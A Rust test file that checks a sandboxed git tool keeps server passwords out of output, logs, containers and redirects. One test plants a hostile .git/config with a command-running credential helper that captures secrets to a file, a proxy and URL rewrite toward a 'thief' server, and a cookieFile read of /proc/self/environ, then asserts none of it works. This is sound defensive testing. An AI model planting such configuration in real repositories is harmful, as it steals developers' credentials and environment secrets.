//! Who one is to a server, and who never learns of it.

use std::{fs, path::Path};

use serde_json::json;

use super::desk::{Desk, FILES, MARKER, Wanted};
use crate::support::{
    bench::text,
    githttp::{GitServer, Mood},
};

/// Long enough that it is nowhere by chance.
const PASSWORD: &str = "hunter2-of-the-deep-sea";

/// A server that wants a password, and a host that knows it under a name.
fn locked(user: &str, secrets: &str) -> Option<Desk> {
    let server = guarded();
    let wanted = knowing(&server, user, secrets);
    Desk::with(server, wanted)
}

fn guarded() -> GitServer {
    let server = GitServer::locked("ann", PASSWORD);
    server.repository("a", FILES);
    server
}

fn knowing(server: &GitServer, user: &str, secrets: &str) -> Wanted {
    let config = format!(
        "credentials = {{ 'http://{}' = {{ username = '{user}', secret = 'forge' }} }}",
        server.place()
    );
    Wanted {
        grants: format!("secrets = [{secrets}]"),
        config,
        secrets: "forge = '${FORGE}'".to_owned(),
        environment: vec![("FORGE", PASSWORD), ("WINDLASS_LOG", "trace")],
        ..Wanted::default()
    }
}

#[test]
fn a_password_opens_the_server_and_is_found_nowhere() {
    let Some(mut desk) = locked("ann", "'forge'") else { return };
    let session = desk.session();
    desk.tool(&session, "git_commit", json!({"message": "x", "allow_empty": true}));
    let mut said = desk.git(&session, "push -v");
    said += &desk.git(&session, "pull -v");
    said += &desk.tool(&session, "git_fetch", json!({})).to_string();
    said += &desk.tool(&session, "git_status", json!({})).to_string();
    let forms = [PASSWORD.to_owned(), encoded()];
    assert!(!forms.iter().any(|form| said.contains(form)), "{said}");
    let shown = desk.server.authorizations();
    assert!(shown.iter().any(Option::is_some), "{shown:?}");
    let containers = desk.bench.containers();
    assert_eq!(containers.len(), 2);
    for container in containers {
        let inspected =
            desk.bench.engine.get(&format!("/containers/{}/json", text(&container["Id"]))).unwrap();
        let inspected = inspected.to_string();
        assert!(!forms.iter().any(|form| inspected.contains(form)), "{inspected}");
    }
    assert!(!desk.read(&session, ".git/config").contains('@'));
    let state = desk.bench.state();
    let log = desk.bench.host().whole_errors();
    for form in forms {
        assert!(!log.contains(&form), "the log holds it");
        assert_eq!(holding(&state, form.as_bytes()), Vec::<String>::new());
    }
}

/// The password as a request carries it.
fn encoded() -> String {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    STANDARD.encode(format!("ann:{PASSWORD}"))
}

/// The files below a folder that hold some bytes.
fn holding(folder: &Path, wanted: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        let kind = fs::symlink_metadata(&path).unwrap().file_type();
        if kind.is_dir() {
            found.extend(holding(&path, wanted));
        } else if kind.is_file()
            && fs::read(&path).unwrap().windows(wanted.len()).any(|it| it == wanted)
        {
            found.push(path.display().to_string());
        }
    }
    found
}

#[test]
fn a_wrong_name_or_no_credential_is_told_as_what_it_is() {
    let Some(mut desk) = locked("bob", "'forge'") else { return };
    let url = desk.server.url("a");
    let refused = desk.bench.refused("git_clone", json!({"url": url}));
    assert!(
        refused.starts_with("AUTHENTICATION_FAILED: ") && !refused.contains(PASSWORD),
        "{refused}"
    );
    let server = GitServer::locked("ann", PASSWORD);
    server.repository("a", FILES);
    let Some(mut desk) = Desk::with(server, Wanted::default()) else { return };
    let url = desk.server.url("a");
    let refused = desk.bench.refused("git_clone", json!({"url": url}));
    assert!(
        refused.starts_with("AUTHENTICATION_FAILED: ") && refused.contains("`credentials`"),
        "{refused}"
    );
}

#[test]
fn a_secret_that_is_not_granted_is_told_with_its_line() {
    let Some(mut desk) = locked("ann", "") else { return };
    let url = desk.server.url("a");
    let refused = desk.bench.refused("git_clone", json!({"url": url}));
    assert_eq!(
        refused,
        "POLICY_DENIED: not allowed: `plugins.git.grants.containers.secrets` has no `forge`"
    );
}

#[test]
fn a_host_that_is_not_granted_is_told_with_its_line() {
    let Some(mut desk) = Desk::new() else { return };
    let other = GitServer::open();
    other.repository("a", FILES);
    let refused = desk.bench.refused("git_clone", json!({"url": other.url("a")}));
    assert!(refused.starts_with("POLICY_DENIED: "), "{refused}");
    assert!(
        refused.contains("grants.containers.egress") && refused.contains(&other.place()),
        "{refused}"
    );
    let secure = other.url("a").replace("http://", "https://");
    let refused = desk.bench.refused("git_clone", json!({"url": secure}));
    assert!(
        refused.starts_with("POLICY_DENIED: ") && refused.contains(&other.place()),
        "{refused}"
    );
    assert_eq!(other.requests(), Vec::<String>::new());
    let session = desk.session();
    let refused = desk.refused(&session, &format!("pull {} main", other.url("a")));
    assert!(
        refused.starts_with("POLICY_DENIED: ") && refused.contains(&other.place()),
        "{refused}"
    );
    // Without any host there is no way out at all.
    let Some(mut desk) = Desk::granting(GitServer::open(), "", &Wanted::default()) else { return };
    let refused = desk.bench.refused("git_clone", json!({"url": other.url("a")}));
    assert!(refused.contains("`grants.containers.egress` must name"), "{refused}");
}

#[test]
fn a_redirect_takes_no_password_along() {
    let other = GitServer::open();
    other.repository("a", FILES);
    let server = guarded();
    let places = vec![other.place()];
    let wanted = Wanted { places, ..knowing(&server, "ann", "'forge'") };
    let Some(mut desk) = Desk::with(server, wanted) else { return };
    let session = desk.session();
    desk.server.turn(Mood::Elsewhere(other.url("a").trim_end_matches("/a.git").to_owned()));
    desk.bench.host().call("git_fetch", json!({"session_id": session}));
    desk.bench.host().call("git", json!({"session_id": session, "command": "push"}));
    assert!(!other.requests().is_empty(), "it was not followed, so this shows nothing");
    assert!(other.authorizations().iter().all(Option::is_none), "{:?}", other.authorizations());
    // One that asks for a password itself gets none either.
    other.turn(Mood::Locked("Basic x".to_owned()));
    desk.bench.host().call("git_fetch", json!({"session_id": session}));
    assert!(other.authorizations().iter().all(Option::is_none), "{:?}", other.authorizations());
}

#[test]
fn a_repository_gets_no_password_by_its_own_configuration() {
    let thief = GitServer::locked("x", "x");
    thief.repository("a", FILES);
    let Some(mut desk) = locked("ann", "'forge'") else { return };
    let session = desk.session();
    let before = desk.server.requests().len();
    let url = desk.server.url("a");
    let origin = url.trim_end_matches("/a.git");
    let config = desk.read(&session, ".git/config");
    let touch = format!("!touch /workspace/{MARKER}; cat >/workspace/{MARKER}");
    let evil = format!(
        "{config}[credential]\n\thelper = \"{touch}\"\n[credential \"{origin}\"]\n\thelper = \"{touch}\"\n\
         [http]\n\tproxy = http://{}\n\tsslVerify = false\n\textraHeader = X-Evil: yes\n\tcookieFile = /proc/self/environ\n\
         [url \"{}/\"]\n\tinsteadOf = \"{origin}/\"\n[core]\n\taskPass = touch /workspace/{MARKER}\n",
        thief.place(),
        thief.url("a").trim_end_matches("/a.git"),
    );
    desk.write(&session, ".git/config", &evil);
    desk.tool(&session, "git_fetch", json!({}));
    desk.tool(&session, "git_commit", json!({"message": "x", "allow_empty": true}));
    desk.git(&session, "push");
    assert!(desk.server.requests().len() > before);
    assert_eq!(thief.requests(), Vec::<String>::new());
    assert!(!desk.folder(&session).join(MARKER).exists());
    // The agent may name another server as its remote; there is no password for that one.
    desk.write(&session, ".git/config", &config.replace(&url, &thief.url("a")));
    let refused = desk.bench.refused("git_fetch", json!({"session_id": session}));
    assert!(refused.starts_with("POLICY_DENIED: "), "{refused}");
}

#[test]
fn a_password_in_an_address_is_refused_and_not_repeated() {
    let Some(mut desk) = Desk::new() else { return };
    let url = desk.server.url("a").replace("http://", &format!("http://ann:{PASSWORD}@"));
    let refused = desk.bench.refused("git_clone", json!({"url": url}));
    assert!(
        refused.starts_with("VALIDATION_ERROR: the address holds a user or a password"),
        "{refused}"
    );
    assert!(!refused.contains(PASSWORD));
    let session = desk.session();
    let refused = desk.refused(&session, &format!("push {url} main"));
    assert!(refused.contains("the address holds a user or a password"), "{refused}");
    assert!(!refused.contains(PASSWORD), "{refused}");
    let config = desk.read(&session, ".git/config");
    let known = desk.server.url("a");
    desk.write(&session, ".git/config", &config.replace(&known, &url));
    let refused = desk.bench.refused("git_fetch", json!({"session_id": session}));
    assert!(refused.starts_with("VALIDATION_ERROR: ") && !refused.contains(PASSWORD), "{refused}");
}

#[test]
fn no_credential_gets_into_the_room_where_files_are_worked_on() {
    let Some(mut desk) = locked("ann", "'forge'") else { return };
    let session = desk.session();
    let bare = desk.server.requests().len();
    desk.write(&session, "x", "x\n");
    desk.tool(&session, "git_commit", json!({"message": "x", "all": true}));
    desk.tool(&session, "git_diff", json!({"from": "HEAD~1"}));
    assert_eq!(desk.server.requests().len(), bare, "local work asks nobody");
    for container in desk.bench.containers() {
        let labels = container["Labels"].clone();
        let inspected =
            desk.bench.engine.get(&format!("/containers/{}/json", text(&container["Id"]))).unwrap();
        let environment = inspected["Config"]["Env"].to_string();
        let local = !text(&labels["windlass.alias"]).starts_with("git-remote-");
        assert_eq!(environment.contains("http_proxy="), !local, "{labels} {environment}");
    }
}
